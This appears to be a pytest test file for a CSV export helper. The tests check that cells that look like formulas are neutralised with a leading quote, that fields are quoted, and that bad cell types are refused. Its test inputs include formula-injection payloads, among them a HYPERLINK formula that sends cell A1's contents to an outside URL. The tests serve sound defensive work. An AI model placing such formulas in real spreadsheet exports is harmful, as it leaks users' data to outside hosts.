"""The shared CSV writer: formula-like text is neutralised, the product's numbers and days are
not, every field is quoted, and a cell of an unexpected type is refused."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from uuid import UUID

import pytest

from services.core.csv_export import csv_text, neutralise

pytestmark = pytest.mark.unit

FORMULAS = [
    "=1+1",
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "\rplain after a carriage return",
    " =1+1",
    "\n-2+3",
    "\u00a0@SUM(A1)",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
]
HARMLESS = ["", "Ada Vance", "Carotid duplex: 1+1", "a=b", "'=1+1", "1.5", "2026-01-31", " x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_cells_are_neutralised_and_the_products_values_written_as_they_print() -> None:
    person = UUID("12345678-1234-5678-1234-567812345678")
    written = csv_text(
        ["name", "credits", "seq", "day", "at", "id", "note"],
        [
            {
                "name": "=1+1",
                "credits": Decimal("-1.5"),
                "seq": -3,
                "day": date(2026, 1, 31),
                "at": datetime(2026, 1, 31, 8, 0, tzinfo=UTC),
                "id": person,
                "note": None,
            },
            {"name": "-2+3"},
        ],
    )
    assert _read(written) == [
        ["name", "credits", "seq", "day", "at", "id", "note"],
        ["'=1+1", "-1.5", "-3", "2026-01-31", "2026-01-31 08:00:00+00:00", str(person), ""],
        ["'-2+3", "", "", "", "", "", ""],
    ]


def test_every_field_is_quoted_and_lines_end_with_crlf() -> None:
    written = csv_text(["a", "b"], [{"a": 'x;=1+1 "quoted"', "b": Decimal("2")}])
    assert written == '"a","b"\r\n"x;=1+1 ""quoted""","2"\r\n'


def test_a_cell_with_a_line_break_and_a_formula_stays_one_neutralised_field() -> None:
    assert _read(csv_text(["a"], [{"a": "\r\n=1+1"}])) == [["a"], ["'\r\n=1+1"]]


@pytest.mark.parametrize("cell", [True, 1.5, b"=1+1", ["=1+1"]])
def test_a_cell_of_another_type_is_refused(cell: object) -> None:
    with pytest.raises(TypeError):
        csv_text(["a"], [{"a": cell}])  # type: ignore[dict-item]


def test_a_cell_for_an_unknown_column_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown columns: b"):
        csv_text(["a"], [{"a": "x", "b": "y"}])
